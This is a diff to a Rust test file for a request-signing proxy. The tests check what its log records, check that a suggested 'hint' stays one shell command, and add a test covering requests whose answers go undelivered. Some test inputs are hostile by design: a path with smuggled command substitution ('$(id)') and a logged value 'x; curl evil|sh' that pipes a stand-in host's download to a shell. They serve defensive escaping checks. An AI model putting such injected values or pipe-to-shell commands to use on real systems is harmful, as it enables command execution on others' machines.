@@ -1,9 +1,12 @@
 //! The log: what it tells of a request, and what nobody can write into it.
 #![cfg(unix)]
 
+use std::io::{Read as _, Write as _};
+use std::net::{Shutdown, TcpListener, TcpStream};
+
 use super::relayed::files;
 use super::{KEYS, Proxy};
-use crate::request::server::{Server, reply};
+use crate::request::server::{Server, read, reply};
 
 #[test]
 fn the_log_tells_names_if_asked_and_values_never() {
@@ -67,7 +70,7 @@ fn a_hint_is_one_command_whoever_asked() {
     let upstream = server.url("");
     let arguments = ["--keys", keys, "--upstream", &upstream];
     let proxy = Proxy::start(files.path(), &arguments);
-    proxy.get("/a$(id);`id`");
+    proxy.get("/a$(id);'b'");
     proxy.ask("POST /b", "", "");
     proxy.ask("POST /c", "", "");
     let log = proxy.stop();
@@ -79,7 +82,7 @@ fn a_hint_is_one_command_whoever_asked() {
         .output()
         .unwrap();
     let words = String::from_utf8(split.stdout).unwrap();
-    let url = format!("{upstream}/a$(id);`id`");
+    let url = format!("{upstream}/a$(id);'b'");
     let expected = ["countersign", "request", "--keys", keys, "GET", &url];
     assert_eq!(words.lines().collect::<Vec<_>>(), expected, "{hint}");
     assert!(
@@ -89,4 +92,56 @@ fn a_hint_is_one_command_whoever_asked() {
     assert_eq!(lines[1]["problem"], "x; curl evil|sh", "{log}");
     assert_eq!(lines[2]["hint"], "countersign explain signature_invalid");
     server.requests();
+}
+
+/// A signed request that is on its way, at the proxy and at its upstream.
+fn under_way(proxy: &Proxy, listener: &TcpListener) -> (TcpStream, TcpStream) {
+    let mut tool = proxy.connect();
+    let fields = proxy.fields();
+    let request = format!("POST /a HTTP/1.1\r\n{fields}Content-Length: 3\r\n\r\na=b");
+    tool.write_all(request.as_bytes()).unwrap();
+    let (mut asked, _) = listener.accept().unwrap();
+    assert!(read(&mut asked).ends_with(b"a=b"));
+    (tool, asked)
+}
+
+/// What was signed and sent is told, even if nobody is left to be answered.
+#[test]
+fn a_request_whose_answer_nobody_gets_has_its_line() {
+    let files = files();
+    for (leaves, why) in [
+        ("closes", "the tool hung up"),
+        ("half closes", "the tool hung up"),
+        ("stays", "the proxy ended"),
+    ] {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let upstream = format!("http://{}", listener.local_addr().unwrap());
+        let proxy = Proxy::to(files.path(), &upstream);
+        let (mut tool, mut asked) = under_way(&proxy, &listener);
+        match leaves {
+            "closes" => drop(tool),
+            "half closes" => {
+                tool.shutdown(Shutdown::Write).unwrap();
+                let mut nothing = Vec::new();
+                tool.read_to_end(&mut nothing).unwrap();
+                assert_eq!(nothing, b"");
+            }
+            _ => {
+                proxy.signal("-TERM");
+                while TcpStream::connect(proxy.address()).is_ok() {}
+                proxy.signal("-TERM");
+                let _cut_off = tool.read_to_end(&mut Vec::new());
+            }
+        }
+        // The upstream is not waited for either.
+        let _cut_off = asked.read_to_end(&mut Vec::new());
+        let log = match leaves {
+            "stays" => proxy.ended().1,
+            _ => proxy.stop(),
+        };
+        let line = &lines(&log)[0];
+        assert_eq!(line["message"], "POST /a", "{leaves}: {log}");
+        assert_eq!(line["sent"], 1, "{leaves}: {log}");
+        assert_eq!(line["unanswered"], why, "{leaves}: {log}");
+    }
 }
